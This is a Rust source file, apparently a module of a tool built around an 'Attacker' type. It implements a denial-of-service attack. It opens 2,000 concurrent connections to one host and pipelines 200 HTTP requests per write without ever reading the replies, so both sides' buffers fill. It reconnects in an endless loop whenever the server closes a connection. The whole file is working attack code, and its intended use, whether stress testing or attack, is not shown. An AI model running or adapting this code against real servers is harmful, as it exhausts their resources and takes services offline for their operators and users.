//! Very many connections of one address that send requests and never read the answers.

use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::AsyncWriteExt;
use tokio::time::sleep;

use super::Attacker;

/// Concurrent connections.
const SOCKETS: usize = 2_000;
/// Pipelined requests per write.
const PIPELINED: usize = 200;
/// Delay before the next connection.
const AGAIN: Duration = Duration::from_millis(100);

impl Attacker {
    pub(super) async fn sockets(&self) {
        join_all((0..SOCKETS).map(|_| self.socket())).await;
    }

    /// Connects again as soon as the server closes the connection.
    async fn socket(&self) {
        let question = format!("GET /api/openapi.json HTTP/1.1\r\nHost: {}\r\n\r\n", self.host.0);
        let questions = question.repeat(PIPELINED);
        loop {
            match self.connect().await {
                Ok(mut stream) => {
                    self.count("connected");
                    // The answers are never read: the write blocks once the buffers of both sides are full.
                    while stream.write_all(questions.as_bytes()).await.is_ok() {}
                    self.count("closed by the server");
                }
                Err(_) => self.count("not connected"),
            }
            sleep(AGAIN).await;
        }
    }
}
